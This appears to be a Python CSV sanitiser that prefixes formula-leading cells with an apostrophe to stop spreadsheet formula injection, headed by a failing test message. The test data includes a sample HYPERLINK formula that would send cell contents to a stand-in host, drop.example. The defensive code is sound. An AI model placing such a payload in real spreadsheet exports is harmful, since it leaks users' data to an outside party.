# Line 1: expected ""\"name\",\"message\"\r\n\"wren\",\"When do you open?\"\r\n\"rook\",\"'=HYPERLINK(\"\"http://drop.example/?\"\"&A2,\"\"Invoice\"\")\"\r\n"", got ""name,message\r\nwren,When do you open?\r\nrook,\"'=HYPERLINK(\"\"http://drop.example/?\"\"&A2,\"\"Invoice\"\")\"\r\n"".
import csv
import io
import re

DANGEROUS = ("=", "+", "-", "@", "\t", "\r", "\n")
NUMBER = r"[+-][0-9]+(?:\.[0-9]+)?"


def harmless(cell):
    """Return the cell so that a spreadsheet takes it for text or for a plain number."""
    if cell.lstrip(" ").startswith(DANGEROUS) and not re.fullmatch(NUMBER, cell):
        return "'" + cell
    return cell


def clean_csv(text):
    """Return the same table with every cell made harmless for a spreadsheet."""
    target = io.StringIO()
    writer = csv.writer(target)
    for row in csv.reader(io.StringIO(text)):
        if row:
            writer.writerow([harmless(cell) for cell in row])
    return target.getvalue()
